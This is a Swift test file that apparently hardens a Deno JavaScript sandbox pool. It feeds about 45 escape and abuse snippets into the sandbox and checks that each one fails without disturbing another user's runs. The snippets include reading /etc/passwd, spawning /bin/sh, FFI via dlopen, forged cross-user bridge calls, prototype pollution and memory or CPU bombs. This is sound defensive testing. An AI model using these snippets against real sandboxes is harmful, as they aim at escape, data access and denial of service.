import Foundation
import JunctionCore
import Logging
import TestSupport
@testable import Worker
import XCTest

/// Escape and abuse attempts against the sandbox. Each must fail (or end) harmlessly
/// while another user's runs keep being served by the same pool.
final class HostileCodeTests: XCTestCase, @unchecked Sendable {
    struct Attack: Sendable {
        var name: String
        var code: String
        /// Checks the outcome; returns a failure message or nil.
        var check: @Sendable (SandboxOutcome) -> String?
    }

    static let allowed = ["alice_list", "alice_get"]

    static func fails(_ pattern: String? = nil) -> @Sendable (SandboxOutcome) -> String? {
        { o in
            if o.ok { return "expected failure, got result \(o.result.jsonString())" }
            if let pattern, !(((o.errorName ?? "") + ": " + (o.errorMessage ?? "")).range(of: pattern, options: [.regularExpression, .caseInsensitive]) != nil) {
                return "error \(o.errorName ?? "?"): \(o.errorMessage ?? "?") does not match \(pattern)"
            }
            return nil
        }
    }

    static func resultIs(_ expected: JSONValue) -> @Sendable (SandboxOutcome) -> String? {
        { o in o.ok && o.result == expected ? nil : "expected \(expected.jsonString()), got \(o)" }
    }

    static let attacks: [Attack] = [
        Attack(name: "fetch", code: "async () => (await fetch('http://127.0.0.1:8080/')).status", check: fails("NotCapable|net")),
        Attack(name: "fetch via eval", code: "async () => await eval(\"fetch('https://example.com')\")", check: fails("NotCapable|net|not available")),
        Attack(name: "WebSocket", code: """
            async () => await new Promise((res, rej) => { const ws = new WebSocket('ws://127.0.0.1:9/'); ws.onopen = () => res('open'); ws.onerror = () => rej(new Error('ws failed')); })
            """, check: fails()),
        Attack(name: "remote import", code: "async () => (await import('https://example.com/x.js')).default", check: fails()),
        Attack(name: "data: import that fetches", code: """
            async () => (await import('data:text/javascript,export default await fetch("http://127.0.0.1:9/")')).default
            """, check: fails()),
        Attack(name: "body escape with export-from", code: """
            }
            export * from "data:text/javascript,console.log('loaded')"
            function x() {
            """, check: fails("SyntaxError: modules cannot be loaded")),
        Attack(name: "escape to the top level, then import()", code: """
            });
            globalThis.p = import("node:fs");
            (async function () { try { await globalThis.p; return "LOADED" } catch { return "refused" }
            """, check: resultIs("refused")),
        Attack(name: "import() from a timer", code: """
            async () => await new Promise(r => setTimeout(() => import('node:child_process').then(() => r('LOADED'), () => r('refused')), 1))
            """, check: resultIs("refused")),
        Attack(name: "static import", code: "import fs from 'node:fs'\nreturn 1", check: fails("modules cannot be loaded")),
        Attack(name: "escaped import keyword", code: "async () => await \\u0069mport('node:fs')", check: fails()),
        Attack(name: "Deno internals", code: "async () => [typeof Deno[Deno.internal], typeof Deno.core, typeof globalThis.nodeBootstrap]",
               check: resultIs(["undefined", "undefined", "undefined"])),
        Attack(name: "read the request channel", code: "async () => Deno.openSync('/dev/fd/3').readSync(new Uint8Array(64))",
               check: fails("NotCapable|read")),
        Attack(name: "Deno.connect", code: "async () => { const c = await Deno.connect({ hostname: '127.0.0.1', port: 9 }); return 1 }", check: fails("NotCapable|net")),
        Attack(name: "read file", code: "async () => await Deno.readTextFile('/etc/passwd')", check: fails("NotCapable|read")),
        Attack(name: "read file sync via Function", code: "async () => new Function(\"return Deno.readTextFileSync('/etc/hostname')\")()", check: fails("NotCapable|read|not available")),
        Attack(name: "write file", code: "async () => { await Deno.writeTextFile('/tmp/junction-pwned', 'x'); return 1 }", check: fails("NotCapable|write")),
        Attack(name: "list directory", code: "async () => { const out = []; for await (const e of Deno.readDir('/')) out.push(e.name); return out }", check: fails("NotCapable|read")),
        Attack(name: "environment", code: "async () => Deno.env.toObject()", check: fails("NotCapable|env")),
        Attack(name: "subprocess", code: "async () => (await new Deno.Command('/bin/sh', { args: ['-c', 'id'] }).output()).code", check: fails("NotCapable|run")),
        Attack(name: "FFI", code: "async () => Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }).symbols.getpid()", check: fails()),
        Attack(name: "write to host stdout (forge protocol)", code: """
            async () => { await Deno.stdout.write(new TextEncoder().encode('{"type":"call","id":"x","callId":1,"name":"bob_secret","args":{}}\\n')); return 'wrote' }
            """, check: { o in o.ok && o.result == "wrote" ? "sandbox code wrote to the host's stdout" : nil }),
        Attack(name: "exit the host", code: "async () => { Deno.exit(0); return 1 }", check: fails()),
        Attack(name: "close the worker", code: "async () => { self.close(); await new Promise(r => setTimeout(r, 100)); return 1 }", check: { _ in nil }),
        Attack(name: "nested worker", code: """
            async () => await new Promise((res, rej) => { const w = new Worker('data:text/javascript,postMessage(1)', { type: 'module' }); w.onmessage = e => res(e.data); w.onerror = e => rej(new Error('nested worker failed')); })
            """, check: { _ in nil }),
        Attack(name: "forged bridge call to another user's function", code: """
            async () => { for (let i = 0; i < 50; i++) { postMessage({ type: 'call', callId: 1000 + i, name: 'bob_secret', args: {} }); postMessage({ t: 'call', id: 2000 + i, name: 'bob_secret' }); } await new Promise(r => setTimeout(r, 50)); return 'sent' }
            """, check: { _ in nil }),
        Attack(name: "calling another user's function name", code: "async () => await codemode.bob_secret({})", check: fails("not a function|bob_secret")),
        Attack(name: "call through the prototype chain", code: "async () => await Object.getPrototypeOf(codemode)?.constructor?.('return codemode.bob_secret')?.()", check: { o in
            o.ok && o.result != .null ? "reached something through the prototype chain: \(o.result)" : nil }),
        Attack(name: "replace a codemode function", code: "async () => { codemode.alice_get = async () => 'hijacked'; return await codemode.alice_get({}) }", check: { o in
            o.ok && o.result == "hijacked" ? "codemode is writable" : nil }),
        Attack(name: "pollute Object.prototype", code: "async () => { Object.prototype.pwned = 'yes'; Array.prototype.push = () => 0; return 1 }", check: { _ in nil }),
        Attack(name: "giant string", code: "async () => 'x'.repeat(2 ** 30).length", check: fails()),
        Attack(name: "memory bomb", code: "async () => { const a = []; while (true) a.push(new Array(1e5).fill(1.5)) }",
               check: fails("SandboxCrashed: .*memory limit")),
        Attack(name: "deep recursion", code: "async () => { const f = (n) => f(n + 1) + 1; return f(0) }", check: fails("RangeError|stack")),
        Attack(name: "infinite loop", code: "async () => { while (true) {} }", check: { o in o.timedOut ? nil : "not stopped by the deadline: \(o)" }),
        Attack(name: "Atomics.wait forever", code: "async () => { const a = new Int32Array(new SharedArrayBuffer(4)); Atomics.wait(a, 0, 0); return 1 }", check: fails()),
        Attack(name: "timers outliving the run", code: "async () => { setTimeout(() => console.log('LATE'), 2000); setInterval(() => {}, 1); return 'done' }", check: resultIs("done")),
        Attack(name: "non-cloneable function result", code: "async () => () => 1", check: { o in o.ok && o.result != .null ? "returned a function as \(o.result)" : nil }),
        Attack(name: "BigInt result", code: "async () => 10n ** 30n", check: fails()),
        Attack(name: "cyclic result", code: "async () => { const a = {}; a.self = a; return a }", check: fails()),
        Attack(name: "unhandled rejection", code: "async () => { Promise.reject(new Error('ignored')); return 'fine' }", check: { _ in nil }),
        Attack(name: "throwing a non-Error", code: "async () => { throw { toString() { throw new Error('evil toString') } } }", check: fails()),
        Attack(name: "error with hostile getters", code: """
            async () => { const e = new Error('x'); Object.defineProperty(e, 'message', { get() { throw new Error('boom') } }); throw e }
            """, check: fails()),
        Attack(name: "console flood", code: "async () => { for (let i = 0; i < 200000; i++) console.log('flood ' + i); return 'flooded' }", check: { o in
            let bytes = o.logs.reduce(0) { $0 + $1.utf8.count }
            return bytes < 40_000 ? nil : "captured \(bytes) bytes of logs" }),
        Attack(name: "syntax error", code: "async () => { return )( }", check: fails()),
        Attack(name: "WebAssembly infinite loop", code: """
            async () => { const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]); const { instance } = await WebAssembly.instantiate(bytes); instance.exports.f(); return 1 }
            """, check: { o in o.ok ? "wasm loop returned" : nil }),
    ]

    func testEveryAttackFailsHarmlesslyWhileOthersAreServed() async throws {
        let pool = SandboxPool(options: .init(denoPath: try TestEnvironment.deno(), scriptPath: TestEnvironment.sandboxScript,
                                              processes: 2, concurrency: 4, heapMB: 128),
                               logger: Logger(label: "test"))
        try await pool.start()
        defer { Task { await pool.shutdown() } }
        XCTAssertGreaterThanOrEqual(Self.attacks.count, 30)
        let calls = Locked<[String]>([])
        let handler: SandboxCallHandler = { name, _ in
            calls.withLock { $0.append(name) }
            return .success(["secret-free": true])
        }

        // Bob's runs go on the whole time.
        let bobFailures = Locked<[String]>([])
        let bobRuns = Locked(0)
        let stop = Locked(false)
        let bob = Task {
            while !stop.withLock({ $0 }) {
                let o = await pool.run(owner: "bob", code: "async () => 'bob ok'", functions: [], timeout: .seconds(10)) { _, _ in .success(.null) }
                bobRuns.withLock { $0 += 1 }
                if o.result != "bob ok" { bobFailures.withLock { $0.append("\(o)") } }
                try? await Task.sleep(for: .milliseconds(50))
            }
        }

        var failures: [String] = []
        for attack in Self.attacks {
            let outcome = await pool.run(owner: "alice", code: attack.code, functions: Self.allowed, timeout: .seconds(2), handler: handler)
            if let problem = attack.check(outcome) { failures.append("\(attack.name): \(problem)") }
            // Every attack leaves the pool able to serve a normal run.
            let after = await pool.run(owner: "alice", code: "async () => ({ proto: ({}).pwned ?? null, n: [1].push(2) })", functions: Self.allowed,
                                       timeout: .seconds(5), handler: handler)
            if after.result != ["proto": .null, "n": 2] { failures.append("\(attack.name): next run saw \(after)") }
        }
        // Late timers of finished runs never show up in later runs.
        let late = await pool.run(owner: "alice", code: "async () => { await new Promise(r => setTimeout(r, 2500)); return 1 }", functions: [], timeout: .seconds(5), handler: handler)
        XCTAssertFalse(late.logs.contains { $0.contains("LATE") })

        stop.withLock { $0 = true }
        await bob.value
        XCTAssertEqual(failures, [], failures.joined(separator: "\n"))
        XCTAssertEqual(calls.withLock { $0 }.filter { !Self.allowed.contains($0) }, [], "a call outside the allowed functions reached the host")
        XCTAssertEqual(bobFailures.withLock { $0 }, [], "another user's runs were disturbed")
        XCTAssertGreaterThan(bobRuns.withLock { $0 }, 10)
    }
}
